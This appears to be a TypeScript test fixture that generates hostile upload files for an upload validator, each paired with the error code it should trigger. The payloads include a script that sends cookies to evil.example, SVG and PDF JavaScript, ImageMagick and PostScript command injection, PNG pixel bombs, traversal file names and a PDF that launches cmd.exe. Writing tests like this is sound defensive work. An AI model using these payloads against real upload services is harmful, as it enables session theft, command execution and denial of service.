import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { aPdf, aPicture, aPictureOf, MIB } from '../support/uploads.ts'

export type HostileFile = { what: string; to: 'photos' | 'documents'; name: string; bytes: Buffer; code: string }

const text = (words: string) => Buffer.from(words, 'latin1')
const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const u32 = (n: number) => Buffer.from([n >>> 24, (n >> 16) & 255, (n >> 8) & 255, n & 255])

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(kind), data])
  return Buffer.concat([u32(data.length), body, u32(crc(body))])
}
function crc(bytes: Buffer): number {
  let sum = 0xffffffff
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0)
  }
  return (sum ^ 0xffffffff) >>> 0
}
const PNG = text('\x89PNG\r\n\x1a\n')
/** Creates a PNG with any header. At one bit per pixel, a few kilobytes expand to gigabytes. */
export function aPng(width: number, height: number, data: Buffer, ...more: Buffer[]): Buffer {
  const head = Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])])
  return Buffer.concat([PNG, chunk('IHDR', head), ...more, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}
export const pngChunk = chunk

async function resized(format: 'jpeg' | 'gif', size: number): Promise<Buffer> {
  const picture = await aPicture(format)
  if (format === 'gif') {
    for (const at of [6, 8]) picture.writeUInt16LE(size, at)
    const frame = picture.indexOf(0x2c)
    for (const at of [5, 7]) picture.writeUInt16LE(size, frame + at)
    return picture
  }
  const frame = picture.indexOf(Buffer.from([0xff, 0xc0]))
  for (const at of [5, 7]) picture.writeUInt16BE(size, frame + at)
  return picture
}
const progressive = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: 'grey' } })
    .jpeg({ progressive: true })
    .toBuffer()
const ZIP = Buffer.concat([text('PK\x03\x04'), Buffer.alloc(60), text('PK\x05\x06'), Buffer.alloc(18)])
const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2)
const pdf = (inside: string) => aPdf(600, inside)
const ftyp = (brand: string) => Buffer.concat([text(`\0\0\0\x18ftyp${brand}\0\0\0\0${brand}mif1`), Buffer.alloc(200)])

const photo = (what: string, name: string, bytes: Buffer, code: string): HostileFile => ({
  what,
  to: 'photos',
  name,
  bytes,
  code,
})
const paper = (what: string, name: string, bytes: Buffer, code: string): HostileFile => ({
  what,
  to: 'documents',
  name,
  bytes,
  code,
})

export const hostileFiles = async (): Promise<HostileFile[]> =>
  [otherKinds(), await bombsAndHalves(), await oddNames(), await papers()].flat()

const otherKinds = () => [
  photo('an SVG with script', 'a.svg', text(SVG), 'wrong_type'),
  photo('an SVG with script that is called PNG', 'a.png', text(SVG), 'wrong_type'),
  photo('a page that is called JPEG', 'a.jpg', text(`<!doctype html>${SCRIPT}`), 'wrong_type'),
  photo('a page behind the first bytes of a JPEG', 'a.jpg', text(`\xff\xd8\xff\xe0${SCRIPT}`), 'damaged'),
  photo('a script that begins as a GIF', 'a.gif', text('GIF89a/*\0\0*/=1;alert(document.cookie)//'), 'damaged'),
  photo('a program (ELF)', 'a.png', text(`\x7fELF\x02\x01\x01${'\0'.repeat(80)}`), 'wrong_type'),
  photo('a program (PE) that is called JPEG', 'a.jpg', text(`MZ\x90\0${'\0'.repeat(80)}`), 'wrong_type'),
  photo('an archive that is called JPEG', 'a.jpg', ZIP, 'wrong_type'),
  photo('a packed bomb (gzip) that is called PNG', 'a.png', gzipSync(Buffer.alloc(10 * MIB)), 'wrong_type'),
  photo('a PDF among photos', 'a.jpg', aPdf(), 'wrong_type'),
  photo('a HEIC', 'IMG_1.HEIC', ftyp('heic'), 'heic'),
  photo('a HEIC that is called JPEG', 'IMG_1.jpg', ftyp('mif1'), 'heic'),
  photo('an AVIF', 'a.avif', ftyp('avif'), 'wrong_type'),
  photo('a TIFF', 'a.tif', text('II*\0\x08\0\0\0'), 'wrong_type'),
  photo('a BMP', 'a.bmp', text('BM\x3a\0\0\0\0\0\0\0'), 'wrong_type'),
  photo('a sound in the shell of WebP', 'a.webp', text('RIFF\x24\0\0\0WAVEfmt '), 'wrong_type'),
  photo('a script of ImageMagick', 'a.mvg', text('push graphic-context\nimage over 0,0 0,0 "|id"'), 'wrong_type'),
  photo('a PostScript program', 'a.jpg', text('%!PS-Adobe-3.0\n(%pipe%id) (w) file'), 'wrong_type'),
]

async function bombsAndHalves() {
  const [jpeg, png, webp] = [await aPicture('jpeg', 300, 200), await aPicture('png', 300, 200), await aPicture('webp')]
  return [
    photo(
      'a pixel bomb: 50,000 by 50,000 in a PNG of 2 kB',
      'a.png',
      aPng(50_000, 50_000, deflateSync(Buffer.alloc(2 * MIB))),
      'too_many_pixels',
    ),
    photo(
      'a pixel bomb: one row more than 50 megapixels',
      'a.png',
      aPng(10_000, 5_001, deflateSync(Buffer.alloc(1_000))),
      'too_many_pixels',
    ),
    photo('a progressive JPEG of 25 megapixels', 'a.jpg', await progressive(5_000, 5_000), 'too_many_pixels'),
    photo('a pixel bomb: 65,535 by 65,535 in a JPEG', 'a.jpg', await resized('jpeg', 65_500), 'too_many_pixels'),
    photo('a pixel bomb: 65,535 by 65,535 in a GIF', 'a.gif', await resized('gif', 65_535), 'too_many_pixels'),
    photo('a PNG whose size is a lie', 'a.png', aPng(5_000, 5_000, deflateSync(Buffer.alloc(10))), 'damaged'),
    photo('half a JPEG', 'a.jpg', half(jpeg), 'damaged'),
    photo('half a PNG', 'a.png', half(png), 'damaged'),
    photo('half a WebP', 'a.webp', half(webp), 'damaged'),
    photo('the first bytes of a PNG and nothing else', 'a.png', PNG, 'damaged'),
    photo('nothing', 'a.jpg', Buffer.alloc(0), 'empty'),
    photo('10 MiB and one byte', 'a.jpg', await aPictureOf(10 * MIB + 1), 'too_large'),
  ]
}

async function oddNames() {
  const jpeg = await aPicture()
  return [
    photo('a path as a name', '../../../../etc/cron.d/a.jpg', jpeg, 'bad_name'),
    photo('a path of Windows as a name', 'C:\\Windows\\System32\\a.jpg', jpeg, 'bad_name'),
    photo('the folder above as a name', '..', jpeg, 'bad_name'),
    photo('a name that hides its ending', 'photo\u202egnp.exe', jpeg, 'bad_name'),
  ]
}

const papers = async () => [
  paper('a page that is called PDF', 'a.pdf', text(`<!doctype html>${SCRIPT}`), 'wrong_type'),
  paper('a PDF behind a page', 'a.pdf', Buffer.concat([text(SCRIPT), aPdf()]), 'wrong_type'),
  paper('a PDF before an archive', 'a.pdf', Buffer.concat([aPdf(), ZIP]), 'damaged'),
  paper('a PDF with an archive inside', 'a.pdf', pdf(ZIP.toString('latin1')), 'damaged'),
  paper('half a PDF', 'a.pdf', half(aPdf(4_000)), 'damaged'),
  paper('a PDF with script', 'a.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'active_content'),
  paper(
    'a PDF with script under another spelling',
    'a.pdf',
    pdf('/AA << /S /J#61v#61Script /JS (1) >>'),
    'active_content',
  ),
  paper('a PDF that starts a program', 'a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'active_content'),
  paper('a PDF with a file inside', 'a.pdf', pdf('/Names << /EmbeddedFiles 2 0 R >>'), 'active_content'),
  paper('a PDF that sends forms', 'a.pdf', pdf('/A << /S /SubmitForm /F (http://evil.example) >>'), 'active_content'),
  paper('a letter with macros (Word)', 'a.pdf', ZIP, 'wrong_type'),
  paper('a GIF among documents', 'a.pdf', await aPicture('gif'), 'wrong_type'),
]
